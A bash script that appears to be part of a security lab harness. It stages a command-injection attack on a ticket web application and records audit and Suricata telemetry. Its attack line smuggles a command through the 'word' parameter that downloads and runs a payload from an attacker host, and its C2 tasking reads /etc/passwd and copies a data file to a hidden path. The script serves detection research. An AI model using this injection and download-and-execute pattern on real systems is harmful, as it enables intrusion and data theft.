#!/bin/bash
# Records the sample no-clone. Run as root on a machine of your own; results in /opt/lab/out/no-clone.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" app-5 10.20.0.33 ""

install -d -o $OUT_UID "$RUN/attacker"
install -d -o www-data -g www-data $LAB/site
install -m 755 "$RUN/tickets.py" $LAB/bin/tickets
lab_agent_c "$RUN/attacker/k" 8443 who=/usr/bin/id users="/usr/bin/head -n 3 /etc/passwd" \
  copy="/usr/bin/cp /opt/lab/site/tickets.csv /var/tmp/.t"
lab_outside python3 "$RUN/c2.py" $BAD_IP 8443 "$RUN/seen.json" 2900707 "LAB MALWARE call home from a web application" who users copy
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80
sample_end() { rm -f /var/tmp/.k /var/tmp/.t; }

CALLS=$(echo $CALLS | tr ' ' '\n' | grep -vE 'clone|fork')
lab_audit_on ENRICHED 500 1
lab_service setpriv --reuid www-data --regid www-data --clear-groups /usr/bin/python3 $LAB/bin/tickets "$HOST_IP"
lab_noise_on 3.4
sleep 4
lab_outside bash "$RUN/visitors.sh" "$HOST_IP" $VISITOR_IP $BAD_IP
sleep 24
lab_outside curl -s -m 20 --interface $BAD_IP -G "http://$HOST_IP/find" --data-urlencode \
  "word=7; curl -s -o /var/tmp/.k http://$BAD_IP/k; chmod 755 /var/tmp/.k; /var/tmp/.k & sleep 1"
sleep 30
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" suricata "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
